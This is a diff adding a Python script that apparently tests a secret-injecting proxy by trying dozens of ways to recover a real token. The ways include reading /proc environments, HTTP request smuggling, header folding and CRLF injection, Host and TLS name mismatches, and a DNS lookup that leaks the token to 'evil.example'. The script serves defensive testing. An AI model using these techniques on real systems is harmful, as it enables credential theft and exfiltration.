@@ -1,0 +1,101 @@
+"""A program that holds a placeholder and wants the secret: it tries what it can think of, and prints all that
+it got. Arguments: the port of the granted API, of another API, of a raw service; a file with the placeholder."""
+
+import base64
+import glob
+import http.client
+import os
+import socket
+import ssl
+import subprocess
+import sys
+
+API, OTHER, RAW = map(int, sys.argv[1:4])
+WORD = os.environ["TOKEN"]
+BEARER = {"Authorization": f"Bearer {WORD}"}
+
+
+def ask(port, path="/v1/x", headers=(), method="GET", body=None, context=None, host="localhost"):
+    connection = http.client.HTTPSConnection(host, port, timeout=5, context=context)
+    if port == OTHER:
+        connection = http.client.HTTPConnection(host, port, timeout=5)
+    connection.request(method, path, body, dict(headers))
+    answer = connection.getresponse()
+    return answer.status, answer.getheaders(), answer.read()
+
+
+def speak(data, *, name="localhost", tls=True, port=None, pieces=None):
+    plain = socket.create_connection(("localhost", port or API), timeout=5)
+    context = ssl.create_default_context()
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    stream = context.wrap_socket(plain, server_hostname=name) if tls else plain
+    for piece in pieces or [data]:
+        stream.sendall(piece.encode())
+    got = b""
+    while part := stream.recv(65536):
+        got += part
+    return got
+
+
+def head(line, *headers, host="localhost"):
+    return "\r\n".join([f"{line} HTTP/1.1", f"Host: {host}:{API}", *headers, "", ""])
+
+
+def environments():
+    for path in glob.glob("/proc/[0-9]*/environ"):
+        try:
+            yield path, open(path, "rb").read()
+        except OSError as error:
+            yield path, error
+
+
+AUTHORIZED = f"Authorization: Bearer {WORD}"
+WAYS = {
+    "my environment": lambda: dict(os.environ),
+    "the file": lambda: open(sys.argv[4]).read(),
+    "other environments": lambda: list(environments()),
+    "strings of init": lambda: open("/proc/1/cmdline").read() + open("/proc/1/maps").read(),
+    "an honest echo": lambda: ask(API, headers=BEARER),
+    "an echo in gzip": lambda: ask(API, headers=BEARER | {"Accept-Encoding": "gzip"}),
+    "a part of an echo": lambda: ask(API, headers=BEARER | {"Range": "bytes=0-20"}),
+    "TRACE": lambda: ask(API, headers=BEARER, method="TRACE"),
+    "basic credentials": lambda: ask(
+        API, headers={"Authorization": "Basic " + base64.b64encode(f"a:{WORD}".encode()).decode()}
+    ),
+    "another header": lambda: ask(API, headers={"X-Token": WORD}),
+    "a cookie": lambda: ask(API, headers={"Cookie": f"a={WORD}"}),
+    "the path": lambda: ask(API, path=f"/v1/{WORD}"),
+    "the query": lambda: ask(API, path=f"/v1/x?q={WORD}"),
+    "the body": lambda: ask(API, method="POST", body=WORD),
+    "the body in chunks": lambda: ask(API, method="POST", body=iter([WORD[:9].encode(), WORD[9:].encode()])),
+    "a forbidden path": lambda: ask(API, path="/v2/echo", headers=BEARER),
+    "another API": lambda: ask(OTHER, headers=BEARER),
+    "another API's body": lambda: ask(OTHER, method="POST", body=WORD),
+    "a raw connection": lambda: speak(f"hello {WORD}\n", tls=False, port=RAW),
+    "a raw connection in pieces": lambda: speak("", tls=False, port=RAW, pieces=[*WORD]),
+    "another Host": lambda: speak(head("GET /v1/x", AUTHORIZED, host="other.example")),
+    "another name in TLS": lambda: speak(head("GET /v1/x", AUTHORIZED), name="other.example"),
+    "a whole URL": lambda: speak(head(f"GET https://localhost:{OTHER}/v1/x", AUTHORIZED)),
+    "CONNECT": lambda: speak(head(f"CONNECT localhost:{RAW}", AUTHORIZED)),
+    "an upgrade": lambda: speak(head("GET /v1/x", AUTHORIZED, "Upgrade: echo", "Connection: upgrade")),
+    "a second request in the first": lambda: speak(
+        head("POST /v1/x", "Content-Length: 5", "Transfer-Encoding: chunked")
+        + "0\r\n\r\n"
+        + head("GET /v1/x", AUTHORIZED)
+    ),
+    "a folded header": lambda: speak(head("GET /v1/x", "X-A: b", f" Authorization: {WORD}")),
+    "a line break in a header": lambda: speak(head("GET /v1/x", f"{AUTHORIZED}\nX-Copy: {WORD}")),
+    "two of the header": lambda: speak(head("GET /v1/x", AUTHORIZED, AUTHORIZED)),
+    "hop by hop": lambda: speak(head("GET /v1/x", AUTHORIZED, "Connection: authorization, close")),
+    "HTTP/2": lambda: speak("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
+    "without TLS": lambda: speak(head("GET /v1/x", AUTHORIZED), tls=False),
+    "a name": lambda: socket.getaddrinfo(f"{WORD}.evil.example", 80),
+    "a core": lambda: subprocess.run(["sh", "-c", "ulimit -c unlimited; kill -SEGV $$"], check=False),
+}
+
+for way, attempt in WAYS.items():
+    try:
+        print(f"== {way}:", attempt(), flush=True)
+    except Exception as error:
+        print(f"== {way}: {type(error).__name__}: {error}", flush=True)
